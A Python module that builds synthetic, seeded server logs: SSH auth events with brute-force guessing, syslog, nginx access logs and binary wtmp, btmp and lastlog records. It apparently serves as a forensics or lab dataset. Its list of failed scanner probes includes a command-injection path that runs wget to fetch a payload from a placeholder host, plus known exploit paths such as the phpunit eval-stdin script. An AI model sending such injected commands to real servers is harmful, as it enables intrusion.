"""Plausible logs of a server: made from a seed, always the same for a day."""
import gzip
import random
import struct
import time

HOST = "ip-10-20-0-15"
OFFICE, PIPELINE, BASTION = "198.51.100.23", "10.20.0.40", "10.20.0.9"
SCANNERS = [f"192.0.2.{n}" for n in (4, 17, 33, 58, 90, 101, 144, 187, 203, 230, 241, 250)]
CLIENTS = [f"198.51.100.{n}" for n in range(30, 110)]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/126.0.0.0 Safari/537.36",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
          "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"]
PAGES = ["/", "/about", "/pricing", "/static/site.css", "/static/site.js", "/blog/",
         "/blog/2026/autumn-release", "/contact", "/favicon.ico", "/robots.txt", "/docs/start",
         "/search?q=invoice+export", "/img/logo.svg"]
PROBES = ["/wp-login.php", "/.env", "/phpmyadmin/", "/.git/config", "/cgi-bin/luci",
          "/boaform/admin/formLogin", "/shell?cd+/tmp;wget+http://192.0.2.4/x", "/vendor/phpunit/"
          "phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system", "/actuator/health"]
GUESSES = ["admin", "test", "oracle", "ubuntu", "postgres", "git", "ftpuser", "user", "pi", "es"]
DAY = 86400
FINGERPRINT = "SHA256:unknown"  # of the key that people log in with; set while the base is made


def iso(moment):
    """rsyslog's time stamp."""
    whole = int(moment)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(whole)) + f".{int((moment - whole) * 1e6):06d}+00:00"


def line(moment, tag, text, host=HOST):
    """One syslog line with its moment, for sorting."""
    return moment, f"{iso(moment)} {host} {tag}: {text}\n"


def join(lines):
    """Sorted lines as one text."""
    return "".join(text for _, text in sorted(lines))


def session(r, moment, user, address, minutes, sudo=()):
    """An accepted login with a key, perhaps with sudo, and its end."""
    pid, port = r.randrange(900, 60000), r.randrange(40000, 60000)
    tag = f"sshd[{pid}]"
    kept = [line(moment, tag, f"Accepted publickey for {user} from {address} port {port} ssh2: "
                              f"ED25519 {FINGERPRINT}"),
            line(moment + .02, tag, f"pam_unix(sshd:session): session opened for user {user}"
                                    f"(uid={1000 if user == 'admin' else 1001}) by (uid=0)")]
    for n, command in enumerate(sudo):
        at = moment + 40 + 70 * n
        kept += [line(at, "sudo", f"   {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}"),
                 line(at + .01, "sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1000)"),
                 line(at + 3, "sudo", "pam_unix(sudo:session): session closed for user root")]
    end = moment + 60 * minutes
    kept += [line(end, tag, f"Received disconnect from {address} port {port}:11: disconnected by user"),
             line(end + .01, tag, f"Disconnected from user {user} {address} port {port}"),
             line(end + .02, tag, f"pam_unix(sshd:session): session closed for user {user}")]
    return kept


def guessing(r, moment, address, tries, user=None):
    """Failed password logins of one address."""
    kept = []
    for n in range(tries):
        name, tag = user or r.choice(GUESSES), f"sshd[{r.randrange(900, 60000)}]"
        at, port = moment + n * (2 + r.random()), r.randrange(30000, 60000)
        invalid = "" if name in ("root", "admin", "deploy") else "invalid user "
        if invalid:
            kept.append(line(at, tag, f"Invalid user {name} from {address} port {port}"))
        kept += [line(at + .4, tag, f"Failed password for {invalid}{name} from {address} port {port} ssh2"),
                 line(at + .9, tag, f"Connection closed by {'invalid' if invalid else 'authenticating'} user {name} "
                                    f"{address} port {port} [preauth]")]
    return kept


def cron_sessions(r, first, last):
    """What PAM writes for the hourly cron jobs."""
    kept, at = [], first - first % 3600 + 1021
    while at < last:
        if at > first:
            tag = f"CRON[{r.randrange(900, 60000)}]"
            kept += [line(at, tag, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
                     line(at + .2, tag, "pam_unix(cron:session): session closed for user root")]
        at += 3600
    return kept


SUDO = ["/usr/bin/apt-get update", "/usr/bin/systemctl reload nginx", "/usr/bin/tail -n 50 /var/log/syslog",
        "/usr/bin/apt-get -y upgrade", "/usr/sbin/nginx -t", "/usr/bin/journalctl -u ssh"]


def auth(first, last, seed, noise=14):
    """auth.log between two moments."""
    r, kept = random.Random(seed), []
    day = first - first % DAY
    while day < last:
        kept += session(r, day + 8.2 * 3600 + r.randrange(3000), "admin", OFFICE, r.randrange(5, 90), r.sample(SUDO, 2))
        kept += session(r, day + 13 * 3600 + r.randrange(9000), "deploy", PIPELINE, 1)
        for _ in range(noise):
            kept += guessing(r, day + r.randrange(DAY), r.choice(SCANNERS), r.randrange(1, 6))
        day += DAY
    kept += cron_sessions(r, first, last)
    return [item for item in kept if first <= item[0] < last]


def syslog(first, last, seed):
    """syslog between two moments."""
    r, kept = random.Random(seed), []
    at = first
    while at < last:
        tag = r.choice(["systemd[1]", "CRON[%d]" % r.randrange(900, 60000), "amazon-ssm-agent[611]", "dhclient[402]"])
        text = {"s": r.choice(["Starting logrotate.service - Rotate log files...", "Finished logrotate.service - Rotate log files.",
                               "apt-daily.service: Deactivated successfully.", "Started session-%d.scope." % r.randrange(99)]),
                "C": "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
                "a": "INFO [HealthCheck] HealthCheck reporting agent health.",
                "d": "DHCPACK of 10.20.0.15 from 10.20.0.1"}[tag[0]]
        kept.append(line(at, tag, text))
        at += r.randrange(200, 900)
    return kept


def access(first, last, seed, per_hour=12, probes=0.06, pages=PAGES):
    """nginx's access log between two moments; probes all fail."""
    r, kept, at = random.Random(seed), [], first
    while at < last:
        stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(at))
        if r.random() < probes:
            kept.append((at, f'{r.choice(SCANNERS)} - - [{stamp}] "GET {r.choice(PROBES)} HTTP/1.1" 404 {r.choice((153, 162))} "-" "{r.choice(("-", "Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0"))}"\n'))
        else:
            page = r.choice(pages)
            kept.append((at, f'{r.choice(CLIENTS)} - - [{stamp}] "GET {page} HTTP/1.1" {r.choice((200, 200, 200, 200, 304))} {r.randrange(200, 42000)} "-" "{r.choice(AGENTS)}"\n'))
        at += r.expovariate(per_hour / 3600)
    return kept


def utmp(kind, moment, user="", terminal="", host="", pid=0, mark=""):
    """One utmp record (384 bytes)."""
    address = bytes(int(n) for n in host.split(".")) if host.count(".") == 3 and host[0].isdigit() else b""
    return struct.pack("<hxxi32s4s32s256shhiii16s20x", kind, pid, terminal.encode(), mark.encode(),
                       user.encode(), host.encode(), 0, 0, 0, int(moment),
                       int(moment % 1 * 1e6), address)


def wtmp(first, last, seed, boots):
    """Login records: boots and one or two sessions a day."""
    r, kept = random.Random(seed), []
    for boot in boots:
        kept += [(boot, utmp(2, boot, "reboot", "~", "6.1.0-37-cloud-amd64", 0, "~~")),
                 (boot + 9, utmp(1, boot + 9, "runlevel", "~", "6.1.0-37-cloud-amd64", 53, "~~")),
                 (boot + 11, utmp(6, boot + 11, "LOGIN", "ttyS0", "", 640, "tyS0"))]
    day = first - first % DAY
    while day < last:
        at, pid = day + 8.2 * 3600 + r.randrange(3000), r.randrange(900, 60000)
        end = at + r.randrange(300, 5400)
        kept += [(at, utmp(7, at, "admin", "pts/0", OFFICE, pid, "ts/0")),
                 (end, utmp(8, end, "", "pts/0", "", pid, ""))]
        day += DAY
    return b"".join(record for moment, record in sorted(kept) if first <= moment < last)


def btmp(first, last, seed, count):
    """Failed logins."""
    r = random.Random(seed)
    moments = sorted(r.uniform(first, last) for _ in range(count))
    return b"".join(utmp(6, at, r.choice(GUESSES), "ssh:notty", r.choice(SCANNERS), r.randrange(900, 60000))
                    for at in moments)


def lastlog(entries):
    """lastlog: {uid: (moment, terminal, host)}."""
    data = bytearray(292 * (max(entries) + 1))
    for uid, (moment, terminal, host) in entries.items():
        struct.pack_into("<I32s256s", data, 292 * uid, int(moment), terminal.encode(), host.encode())
    return bytes(data)


def packed(text, moment):
    """A rotated log as gzip makes it."""
    return gzip.compress(text.encode(), 6, mtime=int(moment))
